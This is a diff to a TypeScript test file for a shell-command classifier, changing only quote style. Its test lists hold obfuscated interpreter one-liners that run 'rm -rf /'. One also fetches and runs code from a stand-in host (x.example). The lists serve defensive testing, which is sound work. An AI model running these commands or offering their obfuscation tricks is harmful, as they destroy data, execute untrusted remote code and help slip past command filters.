@@ -4,18 +4,18 @@ import { classify } from '#server/terminal/classify/classify.ts';
 
 const BLOCKED: readonly string[] = [
 	"perl -e 'exec qw(rm -rf /)'",
-	"perl -e 'my $c = \"rm -rf /\"; system($c)'",
+	'perl -e \'my $c = "rm -rf /"; system($c)\'',
 	'tclsh <<< "exec rm -rf /"',
 	'python3 -c "import os as o; o.system(\'rm -rf /\')"',
 	'python3 -c "from os import system as s; s(\'rm -rf /\')"',
-	'python3 -c "getattr(__import__(\'os\'), \'sys\' + \'tem\')(\'rm -rf /\')"',
+	"python3 -c \"getattr(__import__('os'), 'sys' + 'tem')('rm -rf /')\"",
 	'python3 -c "c = \'rm -rf /\'; import os; os.system(c)"',
 	'python3 -c "import os; os.system(chr(114)+chr(109)+\' -rf /\')"',
 	"node -e \"const c = 'rm -rf /'; require('child_process')['exec' + 'Sync'](c)\"",
-	"php -r '$f = \"system\"; $f(\"rm -rf /\");'",
+	'php -r \'$f = "system"; $f("rm -rf /");\'',
 	'groovy -e \'"rm -rf /".execute()\'',
-	"elixir -e 'System.cmd(\"rm\", [\"-rf\", \"/\"])'",
-	"ruby -e 'Process.spawn(\"rm -rf /\")'"
+	'elixir -e \'System.cmd("rm", ["-rf", "/"])\'',
+	'ruby -e \'Process.spawn("rm -rf /")\''
 ];
 
 describe('what the code starts is read', () => {
@@ -23,9 +23,9 @@ describe('what the code starts is read', () => {
 });
 
 const BUILT: readonly string[] = [
-	"python3 -c \"import os; os.system('/ fr- mr'[::-1])\"",
-	"python3 -c \"import os, base64; os.system(base64.b64decode('cm0gLXJmIC8=').decode())\"",
-	"python3 -c \"import os, urllib.request as u; os.system(u.urlopen('http://x.example').read().decode())\""
+	'python3 -c "import os; os.system(\'/ fr- mr\'[::-1])"',
+	'python3 -c "import os, base64; os.system(base64.b64decode(\'cm0gLXJmIC8=\').decode())"',
+	'python3 -c "import os, urllib.request as u; os.system(u.urlopen(\'http://x.example\').read().decode())"'
 ];
 
 describe('what is only put together when it runs is dangerous', () => {
@@ -33,9 +33,9 @@ describe('what is only put together when it runs is dangerous', () => {
 });
 
 const HARMLESS: readonly string[] = [
-	"python3 -c 'x = \"rm -rf /\"; print(x)'",
-	"node -e 'const a = \"rm\"; console.log(a + \" -rf /\")'",
-	"perl -e 'my $x = \"rm -rf /\"; print $x'"
+	'python3 -c \'x = "rm -rf /"; print(x)\'',
+	'node -e \'const a = "rm"; console.log(a + " -rf /")\'',
+	'perl -e \'my $x = "rm -rf /"; print $x\''
 ];
 
 describe('a dangerous text that is only printed stays safe', () => {
